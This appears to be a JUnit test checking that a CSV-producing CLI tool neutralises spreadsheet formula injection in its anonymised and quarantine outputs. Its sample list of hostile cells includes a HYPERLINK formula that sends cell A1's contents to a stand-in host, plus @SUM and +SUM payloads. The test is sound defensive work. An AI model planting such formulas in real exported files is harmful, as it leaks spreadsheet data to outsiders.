package fr.vigie.cli;

import static org.assertj.core.api.Assertions.assertThat;

import fr.vigie.testing.Cli;
import fr.vigie.testing.TemporaryKeys;
import fr.vigie.testing.TestProjects;
import java.io.IOException;
import java.io.Reader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * Spreadsheet formula injection (OWASP "CSV injection") through every CSV Vigie writes for people to
 * open: cells starting with {@code = + - @}, a tab or a carriage return come out with a leading
 * apostrophe, wherever they were written.
 */
@ExtendWith(TemporaryKeys.class)
class CsvOutputsNeutraliseFormulasTest {
    private static final Charset CP1252 = Charset.forName("windows-1252");
    /** Cells a spreadsheet would evaluate, as a department's free-text column could hold them. */
    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")", "+SUM(1;2)",
            "-2+3", "@SUM(A1)", "\tTAB", "\r=1+1");

    @TempDir
    Path work;

    @Test
    void anonymiseOutWritesNoCellASpreadsheetWouldEvaluate() throws IOException {
        Path project = TestProjects.withRules(work.resolve("project"));
        Path source = ccasWithHostileComments(project.resolve("aides.csv"), 1000, false);
        Path out = work.resolve("out");

        Cli.Result result = Cli.run("anonymise", source.toString(), "--policy",
                project.resolve("rules/policies/partenaires-metropoles.yml").toString(), "--out", out.toString(),
                "--json", "--project", project.toString());

        assertThat(result.exitCode()).as(result.out() + result.err()).isZero();
        List<String> cells = cells(out.resolve("anonymised.csv"));
        assertThat(cells).allSatisfy(CsvOutputsNeutraliseFormulasTest::assertHarmless);
        assertThat(cells).as("the hostile cells are kept, neutralised").contains("'" + HOSTILE.get(0), "'@SUM(A1)");
    }

    @Test
    void theQuarantineFileOfARunWritesNoCellASpreadsheetWouldEvaluate() throws IOException {
        Path project = TestProjects.withRules(work.resolve("project"));
        Files.createDirectories(project.resolve("data"));
        ccasWithHostileComments(project.resolve("data/aides.csv"), 1000, true);
        TestProjects.ccasJob(project, "data/aides.csv");
        Path job = project.resolve("jobs/ccas-aides.yml");
        Files.writeString(job, Files.readString(job).replace("maxQuarantineRatio: 0.01", "maxQuarantineRatio: 0.2"));
        Path store = work.resolve("store");

        Cli.Result run = Cli.run("run", "ccas-aides", "--project", project.toString(), "--store", store.toString());

        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        Path quarantine;
        try (Stream<Path> runs = Files.list(store.resolve("quarantine"))) {
            quarantine = runs.findFirst().orElseThrow().resolve("quarantine.csv");
        }
        List<String> cells = cells(quarantine);
        assertThat(cells).allSatisfy(CsvOutputsNeutraliseFormulasTest::assertHarmless);
        assertThat(cells).anySatisfy(c -> assertThat(c).startsWith("'=HYPERLINK"));
    }

    /**
     * The CCAS sample's first {@code rows} rows with the comment column replaced by hostile cells; when
     * {@code malformed}, every tenth row also starts with a hostile cell and has one field too many, so
     * that it goes to quarantine with its raw text starting with a formula.
     */
    static Path ccasWithHostileComments(Path file, int rows, boolean malformed) throws IOException {
        List<String> lines = Files.readAllLines(TestProjects.repository().resolve("sample-data/ccas/aides.csv"), CP1252);
        int comment = List.of(lines.get(0).split(";")).indexOf("commentaire");
        List<String> out = new ArrayList<>(List.of(lines.get(0)));
        for (int i = 1; i <= rows; i++) {
            String[] fields = lines.get(i).split(";", -1);
            String hostile = HOSTILE.get(i % HOSTILE.size());
            fields[comment] = "\"" + hostile.replace("\"", "\"\"") + "\"";
            String line = String.join(";", fields);
            if (malformed && i % 10 == 0) {
                line = "=HYPERLINK(A1)" + line.substring(line.indexOf(';')) + ";extra";
            }
            out.add(line);
        }
        Files.writeString(file, String.join("\n", out) + "\n", StandardCharsets.UTF_8);
        return file;
    }

    static List<String> cells(Path csv) throws IOException {
        List<String> cells = new ArrayList<>();
        try (Reader in = Files.newBufferedReader(csv, StandardCharsets.UTF_8)) {
            for (CSVRecord record : CSVFormat.RFC4180.parse(in)) {
                cells.addAll(record.toList());
            }
        }
        return cells;
    }

    static void assertHarmless(String cell) {
        if (cell.isEmpty()) {
            return;
        }
        char first = cell.charAt(0);
        assertThat(first).as("first character of a cell").isNotIn('=', '+', '@', '\t', '\r');
        if (first == '-') {
            assertThat(cell).as("a cell starting with '-'").matches("-\\d+(\\.\\d*)?([eE][+-]?\\d+)?");
        }
    }
}
